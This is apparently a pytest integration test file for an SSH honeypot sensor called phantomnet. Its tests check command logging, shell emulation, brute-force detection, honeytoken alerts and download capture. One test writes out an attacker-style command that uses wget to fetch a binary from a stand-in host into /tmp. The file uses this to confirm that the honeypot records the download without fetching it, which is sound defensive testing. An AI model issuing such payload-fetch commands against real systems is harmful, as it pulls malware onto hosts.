"""The real OpenSSH client (via sshpass) against the sensor: exec, pty, persistence, policy."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from phantomnet.detection.brute_force import BruteForce, BruteForceConfig
from tests.conftest import require_tool
from tests.integration.sensors.ssh.conftest import SSH_OPTS, Running, askpass, run, ssh_exec

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]


@pytest.fixture(autouse=True)
def _tools() -> None:
    require_tool("ssh", "sshpass")


async def test_exec_records_login_command_and_recording(ssh: Running) -> None:
    rc, out, err = await run(*ssh_exec(ssh.port, "123456", "uname -a; id; hostname; nosuchcmd"))
    persona = ssh.sensor.persona
    assert rc == 127
    assert out.splitlines()[0] == persona.uname("a")
    assert "uid=0(root) gid=0(root) groups=0(root)" in out
    assert persona.hostname in out
    assert "bash: nosuchcmd: command not found" in err
    await ssh.captured.wait_for(lambda c: bool(c.of("connection.closed")))
    [auth] = [a for a in ssh.captured.of("auth.attempt") if a.accepted]
    assert (auth.username, auth.password, auth.method) == ("root", "123456", "password")
    assert auth.client_version.startswith("SSH-2.0-OpenSSH_")
    assert auth.hassh and len(auth.hassh) == 32
    hassh_fp = [f for f in ssh.captured.of("client.fingerprint") if f.method == "hassh"]
    assert hassh_fp[0].value == auth.hassh
    [cmd] = ssh.captured.of("command.input")
    assert cmd.command == "uname -a; id; hostname; nosuchcmd" and cmd.known is False
    [closed] = ssh.captured.of("connection.closed")
    assert closed.session_id == auth.session_id == cmd.session_id
    cast = (ssh.data_dir / closed.recording).read_text().splitlines()
    assert json.loads(cast[0])["version"] == 2
    assert any("uid=0(root)" in json.loads(line)[2] for line in cast[1:])


async def test_interactive_pty_session(ssh: Running) -> None:
    script = b"cd /tmp\necho $((6*7)) > answer\ncat answer\nls /nonexistent\nexit\n"
    rc, out, _ = await run(
        "sshpass",
        "-p",
        "password",
        "ssh",
        *SSH_OPTS,
        "-tt",
        "-p",
        str(ssh.port),
        "root@127.0.0.1",
        stdin=script,
    )
    assert rc == 2  # like bash, a bare ``exit`` returns the last status (ls failed: 2)
    hostname = ssh.sensor.persona.hostname
    assert f"root@{hostname}:~# " in out and f"root@{hostname}:/tmp# " in out
    assert "# cat answer\r\n42\r\n" in out  # echoed by our line discipline, like a pty
    assert "ls: cannot access '/nonexistent': No such file or directory" in out
    assert "logout" in out
    await ssh.captured.wait_for(lambda c: len(c.of("command.input")) >= 5)
    commands = [c.command for c in ssh.captured.of("command.input")]
    assert commands == [
        "cd /tmp",
        "echo $((6*7)) > answer",
        "cat answer",
        "ls /nonexistent",
        "exit",
    ]


async def test_changes_persist_across_connections_per_source(ssh: Running) -> None:
    rc, _, _ = await run(*ssh_exec(ssh.port, "123456", "echo canary > /tmp/x"))
    assert rc == 0
    rc, out, _ = await run(*ssh_exec(ssh.port, "123456", "cat /tmp/x; ls -l /tmp/x"))
    assert rc == 0 and out.startswith("canary\n")
    assert out.splitlines()[1].startswith("-rw-r--r-- 1 root root 7 ")
    # another attacker (another source address) does not see it
    other = ssh.sensor.host.fs("198.51.100.7")
    assert not other.exists("/tmp/x")


async def test_wrong_passwords_then_disconnect_like_openssh(ssh: Running, tmp_path: Path) -> None:
    rc, _, err = await run(
        "ssh",
        *SSH_OPTS,
        "-o",
        "NumberOfPasswordPrompts=10",
        "-o",
        "PreferredAuthentications=password",
        "-p",
        str(ssh.port),
        "root@127.0.0.1",
        "id",
        env=askpass(tmp_path, "wrong-pw"),
    )
    assert rc != 0
    assert "Too many authentication failures" in err
    await ssh.captured.wait_for(lambda c: bool(c.of("connection.closed")))
    failed = [a for a in ssh.captured.of("auth.attempt") if not a.accepted]
    assert len(failed) == ssh.sensor.persona.spec.ssh.max_auth_tries
    assert [c.reason for c in ssh.captured.of("connection.closed")] == ["limit"]
    assert {a.password for a in failed} == {"wrong-pw"}
    # the brute_force detector counts these failed attempts per source and protocol
    detector = BruteForce(BruteForceConfig(threshold=5), node="test")
    detections = [d for a in failed for d in detector.observe(a)]
    assert [d.rule for d in detections] == ["brute_force"]
    assert detections[0].protocol == "ssh" and detections[0].src.ip == "127.0.0.1"


async def test_sntrup761_hybrid_key_exchange_completes(ssh: Running) -> None:
    rc, out, err = await run(
        *ssh_exec(
            ssh.port,
            "123456",
            "echo pq-ok",
            "root",
            "-o",
            "KexAlgorithms=sntrup761x25519-sha512@openssh.com",
        )
    )
    assert rc == 0, err
    assert out == "pq-ok\n"


async def test_honeytoken_credential_raises_event(ssh: Running) -> None:
    [token] = ssh.sensor.host.tokens.by_kind("ssh_password")
    assert token.username is not None
    rc, out, _ = await run(*ssh_exec(ssh.port, token.secret, "whoami", token.username))
    assert rc == 0 and out == f"{token.username}\n"
    await ssh.captured.wait_for(lambda c: bool(c.of("honeytoken.triggered")))
    [hit] = ssh.captured.of("honeytoken.triggered")
    assert hit.token_id == token.token_id and hit.protocol == "ssh"


async def test_wget_is_recorded_never_fetched(ssh: Running) -> None:
    rc, out, err = await run(
        *ssh_exec(ssh.port, "123456", "wget http://203.0.113.9/bins/x86 -O /tmp/b; ls /tmp/b")
    )
    assert rc == 0 and "/tmp/b" in out
    assert "Connecting to 203.0.113.9:80... connected." in err or "203.0.113.9" in err
    await ssh.captured.wait_for(lambda c: bool(c.of("file.download")))
    [dl] = ssh.captured.of("file.download")
    assert dl.url == "http://203.0.113.9/bins/x86" and dl.fetched is False
